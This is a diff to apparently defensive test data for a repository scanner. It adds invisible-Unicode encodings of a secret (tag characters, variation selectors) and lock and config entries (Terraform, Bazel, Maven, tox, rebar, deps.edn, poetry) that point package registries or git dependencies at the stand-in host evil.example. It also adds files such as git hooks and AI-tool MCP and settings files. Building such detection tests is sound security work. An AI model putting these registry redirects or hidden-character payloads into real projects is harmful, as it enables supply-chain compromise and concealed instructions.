@@ -382,6 +382,9 @@ WRITTEN: dict[str, bytes] = {
     "as bits": " ".join(f"{byte:08b}" for byte in raw).encode(),
     "as code points": "".join(f"\\u{{{byte:x}}}" for byte in raw).encode(),
     "in full width": "".join(chr(byte + 0xFEE0) for byte in raw).encode(),
+    "as tags": "".join(chr(byte + 0xE0000) for byte in raw).encode(),
+    "as variation selectors": "😀".encode() + "".join(chr(byte + 0xE0100) for byte in raw).encode(),
+    "as variation selectors from the sixteenth on": "".join(chr(byte + 0xE00F0) for byte in raw).encode(),
     "turned by thirteen": codecs.encode(SECRET, "rot13").encode(),
     "hex, reversed": raw[::-1].hex().encode(),
     "base64 of it reversed": base64.b64encode(raw[::-1]),
@@ -578,6 +581,9 @@ LOCKED = {
     ".cargo/config.toml": 'registry = "https://evil.example/index"',
     "pylock.toml": 'url = "https://evil.example/a.whl"',
     "bun.lock": '"https://evil.example/x.tgz"',
+    ".terraform.lock.hcl": 'provider "https://evil.example/x" {}',
+    ".bazelrc": "common --registry=https://evil.example/x",
+    ".m2/settings.xml": "<url>https://evil.example/m2</url>",
     "git in a lock": "git+ssh://git@evil.example/x.git",
 }
 
@@ -779,6 +785,22 @@ SOURCES = [
     ("sub/.devcontainer/devcontainer.json", '{"postCreateCommand": "make"}'),
     (".vscode/tasks.json", "{}"),
     (".husky/pre-commit", "npm test"),
+    (".githooks/pre-commit", "npm test"),
+    (".mergify.yml", "pull_request_rules: []"),
+    (".github/settings.yml", "collaborators: []"),
+    (".github/renovate.json5", "{}"),
+    (".claude/settings.json", "{}"),
+    ("api/.mcp.json", "{}"),
+    (".cursor/hooks.json", "{}"),
+    (".vscode/mcp.json", "{}"),
+    ("mise.toml", "[tasks]"),
+    (".nvim.lua", "x"),
+    (".tekton/build.yaml", "x"),
+    ("netlify.toml", "[build]"),
+    ("tox.ini", "deps = git+https://evil.example/x"),
+    ("rebar.config", '{deps, [{x, {git, "https://evil.example/x"}}]}.'),
+    ("deps.edn", '{:deps {x {:git/url "https://evil.example/x"}}}'),
+    ("poetry.toml", '[repositories.x]\nurl = "https://evil.example/simple"'),
 ]
 
 
